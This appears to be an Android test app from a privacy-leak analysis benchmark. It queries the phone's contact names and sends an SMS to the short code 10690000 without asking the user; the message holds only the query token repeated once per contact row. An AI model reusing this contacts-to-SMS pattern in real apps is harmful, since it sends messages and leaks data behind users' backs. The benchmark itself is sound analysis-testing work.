package cn.privlens.suite.async_query_token;

import android.app.Activity;
import android.content.ContentResolver;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.telephony.SmsManager;

public class Main extends Activity {
    static class Ask extends android.content.AsyncQueryHandler {
        Ask(ContentResolver resolver) { super(resolver); }
        @Override
        protected void onQueryComplete(int token, Object cookie, Cursor rows) {
            StringBuilder all = new StringBuilder();
            while (rows.moveToNext()) {
                all.append(token);
            }
            rows.close();
            SmsManager.getDefault().sendTextMessage("10690000", null, all.toString(), null, null);
        }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Ask(getContentResolver()).startQuery(4, null, ContactsContract.Contacts.CONTENT_URI, new String[] {ContactsContract.Contacts.DISPLAY_NAME}, null, null, null);
    }
}
